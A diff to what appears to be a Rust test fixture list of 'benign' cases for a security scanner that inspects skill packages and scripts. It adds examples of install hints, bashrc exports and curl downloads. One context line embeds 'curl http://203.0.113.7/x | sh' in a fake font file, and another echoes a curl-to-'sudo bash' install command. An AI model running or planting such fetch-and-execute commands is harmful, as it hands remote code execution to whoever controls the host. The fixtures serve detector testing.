@@ -32,5 +32,10 @@ pub static BENIGN: &[Benign] = &[
     ("nul-in-binary-font", &[("assets/font.woff2", b"wOF2\0\x01\0\0curl http://203.0.113.7/x | sh")]),
     ("api-key-to-its-own-api", &[("scripts/steam.sh", b"curl -s \"https://api.steampowered.com/IEcon/v1/?key=$STEAM_API_KEY\"\ncurl -s \"$WALLABAG_URL/oauth/v2/token\" --data-urlencode \"client_secret=${WALLABAG_CLIENT_SECRET}\"\n")]),
     ("bashrc-export-in-docs", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n```bash\necho 'export SECTORS_API_KEY=\"your-key\"' >> ~/.bashrc\n```\n")]),
+    ("echo-install-hint", &[("scripts/setup.sh", b"echo \"Install it first: curl https://rclone.org/install.sh | sudo bash\"\necho \"  1. Add to ~/.bashrc: echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc\"\n")]),
+    ("python-print-hint", &[("scripts/check.py", b"KEY = 'X_API_KEY'\nprint(f'  echo \\'export {KEY}=\"your-key\"\\' >> ~/.bashrc')\n")]),
+    ("source-is-a-field", &[("scripts/m.py", b"import requests\nURL = 'https://api.example.com/p'\nresp = requests.get(URL)\nrow = {'source': resp, 'ok': True}\n"), ("scripts/s.js", b"const data = await fetch(url);\nreturn { source: 'NWS', data };\n")]),
+    ("curl-command-string-run", &[("scripts/g.py", b"import os\nurl = 'https://api.example.com/img'\ncmd = f'curl -s -o out.png {url}'\nos.system(cmd)\n")]),
+    ("python-module-after-download", &[("scripts/i.sh", b"curl -sSfL https://example.com/req.txt -o playwright\npython3 -m playwright install chromium\n")]),
     ("heading-system-prompt", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n# System Prompt Guide\nThe system prompt is built from the listing.\n")]),
 ];
